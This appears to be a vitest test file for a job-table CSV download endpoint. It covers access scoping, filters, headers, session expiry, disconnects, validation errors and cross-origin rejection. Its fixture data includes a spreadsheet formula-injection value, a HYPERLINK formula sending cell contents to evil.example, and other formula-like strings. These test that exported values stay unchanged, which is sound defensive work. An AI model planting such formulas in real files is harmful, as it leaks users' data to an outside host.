/** GET /console-api/jobs.csv: the console's job table as a file. */
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { request as httpRequest, type IncomingMessage } from "node:http";
import type { Response } from "supertest";
import { beforeAll, describe, expect, it } from "vitest";
import { fileColumns } from "../../src/jobs/import-export/file-codec.ts";
import { toTypedId } from "../../src/core/ids.ts";
import { sql } from "../../src/core/postgres/sql.ts";
import { readCsv } from "../../src/core/records/csv.ts";
import { createSignedInUser, type SignedInTestUser } from "../support/accounts/signed-in-user.ts";
import { sharedApp } from "../support/app/shared-app.ts";
import { eventually } from "../support/eventually.ts";

const app = await sharedApp("api");
const agent = await app.createOrganization("agent");
const contractor = await app.createOrganization("contractor");
const outsider = await app.createOrganization("agent");
const owner = await createSignedInUser(app, agent.id, "dispatcher");

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** Marking Numbers of this run: three jobs of `agent`, and one of another agent. */
const tag = randomBytes(6).toString("hex");
const [E1, E2, E3, F1] = [`${tag}-E1`, `${tag}-E2`, `${tag}-E3`, `${tag}-F1`];

beforeAll(async () => {
  await app.createJobs(agent, [
    {
      markingNumber: E1,
      contractor,
      patch: { recipient_name: FORMULA, instructions: 'two\nlines, "and" more;=1+1', weight: -2.5 },
    },
    {
      markingNumber: E2,
      patch: { recipient_name: "'s-Gravenhage", instructions: "'=1", scheduled_date: "2031-01-02" },
    },
    {
      markingNumber: E3,
      patch: { recipient_name: "@SUM(1)", batch_number: "", normalized_status: "failed" },
    },
  ]);
  await app.createJobs(outsider, [{ markingNumber: F1 }]);
});

interface Question {
  filter?: unknown;
  orderBy?: unknown;
}

function pathOf({ filter, orderBy }: Question): string {
  const parameters = new URLSearchParams();
  if (filter !== undefined) parameters.set("filter", JSON.stringify(filter));
  if (orderBy !== undefined) parameters.set("orderBy", JSON.stringify(orderBy));
  return `/console-api/jobs.csv?${parameters.toString()}`;
}

const download = (question: Question, person: Pick<SignedInTestUser, "headers"> = owner) =>
  app.request(pathOf(question), { headers: person.headers });

/** The rows of the file as objects by column name. */
async function rowsOf(answer: PromiseLike<Response>): Promise<Record<string, string | null>[]> {
  const response = await answer;
  expect(response.status).toBe(200);
  const bytes = Buffer.from(response.text);
  const records: (string | null)[][] = [];
  for await (const { content } of readCsv(toChunks(bytes))) {
    if (!("cells" in content)) throw new Error(content.error);
    records.push(content.cells.map(({ text }) => text));
  }
  const [header = [], ...rows] = records;
  expect(header).toEqual(fileColumns);
  return rows.map((cells) => Object.fromEntries(cells.map((text, index) => [header[index] ?? "", text])));
}

async function* toChunks(bytes: Uint8Array): AsyncGenerator<Uint8Array> {
  yield await Promise.resolve(bytes);
}

const numbersOf = async (response: PromiseLike<Response>): Promise<string[]> =>
  (await rowsOf(response)).map(({ marking_number }) => String(marking_number));

/** Starts a download of 18 MB: more than the sockets can hold before the client reads. */
async function startDownload(): Promise<{ person: SignedInTestUser; response: IncomingMessage }> {
  const many = await app.createOrganization("agent");
  const person = await createSignedInUser(app, many.id);
  const patch = { instructions: "語".repeat(1_000) };
  await app.createJobs(
    many,
    Array.from({ length: 6_000 }, () => ({ patch })),
  );
  const pendingRequest = httpRequest(`${app.url}${pathOf({})}`, { headers: person.headers }).end();
  const [response] = (await once(pendingRequest, "response")) as [IncomingMessage];
  await once(response, "readable");
  return { person, response };
}

/** Counts downloads whose client disconnected. */
async function disconnects(): Promise<number> {
  const { text } = await app.request("/metrics");
  const lines = text
    .split("\n")
    .filter((line) => line.includes("duration_seconds_count{") && line.includes("jobs.csv"));
  const [, count = "0"] = /status="499"\} (\d+)/.exec(lines.join("\n")) ?? [];
  return Number(count);
}

const sorted = (texts: readonly string[]): string[] => texts.toSorted();

describe("the CSV file", () => {
  it("contains only the jobs visible to the user", async () => {
    expect(sorted(await numbersOf(download({})))).toEqual([E1, E2, E3]);
    const carrier = await createSignedInUser(app, contractor.id);
    expect(await numbersOf(download({}, carrier))).toEqual([E1]);
    const operator = await createSignedInUser(app, null);
    const agentId = [agent, outsider].map(({ id }) => toTypedId("org", id));
    expect(sorted(await numbersOf(download({ filter: { agentId } }, operator)))).toEqual([E1, E2, E3, F1]);
  });

  it("applies filter and order like `jobs`", async () => {
    const orderBy = { field: "MARKING_NUMBER", direction: "DESC" };
    const filter = { or: [{ normalizedStatus: { eq: "failed" } }, { scheduledDate: { gte: "2031-01-01" } }] };
    expect(await numbersOf(download({ filter, orderBy }))).toEqual([E3, E2]);
    const agentId = [toTypedId("org", agent.id)];
    expect(await numbersOf(download({ filter: { agentId, not: filter } }))).toEqual([E1]);
  });

  // evidence: csv-download-headers
  it("has a file name and may not be cached", async () => {
    const { headers } = await download({});
    expect(headers["content-type"]).toBe("text/csv; charset=utf-8; header=present");
    expect(headers["content-disposition"]).toMatch(
      /^attachment; filename="jobs-\d{4}-\d\d-\d\d-to-import\.csv"$/,
    );
    expect(headers["cache-control"]).toBe("no-store");
  });

  it("changes no value and has no byte order mark", async () => {
    const rows = await rowsOf(download({}));
    expect(rows.find(({ marking_number }) => marking_number === E1)).toMatchObject({
      recipient_name: FORMULA,
      instructions: 'two\nlines, "and" more;=1+1',
      weight: "-2.5",
    });
    expect((await download({})).text).toMatch(/^marking_number,/);
  });

  // evidence: csv-export-session
  it("ends early if the session ends meanwhile", async () => {
    const { person, response } = await startDownload();
    await app.database.query(sql`delete from user_session where user_id = ${person.id}`);
    let lines = 0;
    const read = async (): Promise<void> => {
      for await (const chunk of response) lines += String(chunk).split("\n").length - 1;
    };
    await expect(read()).rejects.toThrow("aborted");
    expect(lines).toBeLessThan(6_000);
  });

  it("stops without an error when the client disconnects", async () => {
    const before = await disconnects();
    const { response } = await startDownload();
    response.destroy();
    await eventually(async () => expect(await disconnects()).toBe(before + 1));
  });
});

describe("400", () => {
  it.each([
    ["for a filter that is not JSON", "/console-api/jobs.csv?filter={", "filter"],
    ["for an unknown field", pathOf({ filter: { secret: true } }), "filter"],
    ["for a value of another type", pathOf({ filter: { weight: { gt: "much" } } }), "filter.weight.gt"],
    [
      "for an unknown status",
      pathOf({ filter: { normalizedStatus: { eq: "lost" } } }),
      "filter.normalizedStatus.eq",
    ],
    ["for an invalid ID", pathOf({ filter: { agentId: ["org_x"] } }), "filter.agentId.0"],
    [
      "for a list that is too long",
      pathOf({ filter: { agentId: Array.from({ length: 101 }, () => "org_x") } }),
      "filter.agentId",
    ],
    ["for an invalid order", pathOf({ orderBy: { field: "WEIGHT", direction: "ASC" } }), "orderBy.field"],
    ["for an order without a direction", pathOf({ orderBy: { field: "CREATED_AT" } }), "orderBy"],
  ])("%s", async (_what, path, field) => {
    const response = await app.request(path, { headers: owner.headers });
    const body = response.body as { error: { code: string; details: { field: string }[] } };
    expect({ status: response.status, field: body.error.details[0]?.field }).toEqual({ status: 400, field });
  });

  it("for a filter that is nested too deep", async () => {
    let filter: object = { isLate: true };
    for (let depth = 0; depth < 300; depth += 1) filter = { not: filter };
    expect((await download({ filter })).status).toBe(400);
  });
});

describe("GET /console-api/jobs.csv", () => {
  it("returns 403 for a page of another origin", async () => {
    const { cookie } = owner.client;
    for (const where of [{}, { origin: "https://evil.example" }, { "sec-fetch-site": "cross-site" }])
      expect((await app.request(pathOf({}), { headers: { cookie, ...where } })).status).toBe(403);
  });

  it("returns 405 for other methods", async () => {
    for (const method of ["POST", "HEAD", "DELETE"]) {
      const response = await app.request(pathOf({}), { method, headers: owner.headers });
      expect([response.status, response.get("allow")]).toEqual([405, "GET"]);
    }
  });
});
